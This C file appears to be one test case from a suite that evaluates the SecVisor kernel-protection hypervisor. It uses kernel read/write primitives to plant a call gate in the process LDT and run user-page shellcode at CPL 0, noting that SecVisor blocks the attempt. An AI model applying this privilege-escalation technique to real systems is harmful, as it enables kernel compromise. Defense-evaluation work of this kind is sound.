// Row 9. A call gate in the process's LDT, written past modify_ldt, to code in a user page.
// Source: call gates; LDT remapping (CVE-2015-5157 neighbourhood).
// Ends: natively succeeded; beneath SecVisor refused, instruction: a general-protection fault of the user program.
#include "common/attack.h"
#include <asm/ldt.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

ATTACK("call-gate-ldt")
{
	struct vulnerable_operation op = { .what = VULNERABLE_TABLES };
	u64 gs = operate(VULNERABLE_GS, 0, 0, 0), stack = operate(VULNERABLE_VMALLOC, 16 * PAGE, 0, 0);
	u8 *page = user_page(), entry[16];
	u64 tss, low, high;
	long result;

	memcpy(page, "\xb8\x37\x13\0\0\x48\xcb", 7); // mov eax, 0x1337; lretq
	make_executable((u64)page);
	if (try_operate(&op))
		failed("no tables");
	// What refuses the call does so on the stack the TSS names: a roomy one.
	low = kread64(op.out[1] + (op.out[3] >> 16));
	high = kread64(op.out[1] + (op.out[3] >> 16) + 8);
	tss = (low >> 16 & 0xffffff) | (low >> 56) << 24 | high << 32;
	u64 top = stack + 15 * PAGE;
	poke_bytes(tss + 4, &top, 8);
	call_gate(entry, (u64)page);
	expect_fault();
	unprotect();
	struct user_desc dummy = { .entry_number = 7, .limit = 0xfffff, .seg_32bit = 1, .limit_in_pages = 1, .useable = 1 };
	u64 ldt;

	if (syscall(SYS_modify_ldt, 1, &dummy, sizeof(dummy)))
		failed("no LDT");
	op.what = VULNERABLE_TABLES;
	if (try_operate(&op) || !(op.out[3] & 0xffff))
		failed("no LDT is loaded");
	low = kread64(op.out[1] + (op.out[3] & 0xfff8));
	high = kread64(op.out[1] + (op.out[3] & 0xfff8) + 8);
	ldt = (low >> 16 & 0xffffff) | (low >> 56) << 24 | high << 32;
	kwrite(ldt + 16, entry, sizeof(entry));
	about_to("call through a gate in the LDT");
	result = call_far(2 << 3 | 7, gs);
	if (result == MARK)
		succeeded("a call gate in the LDT led to a user page at CPL 0");
	failed("the call returned %ld", result);
}
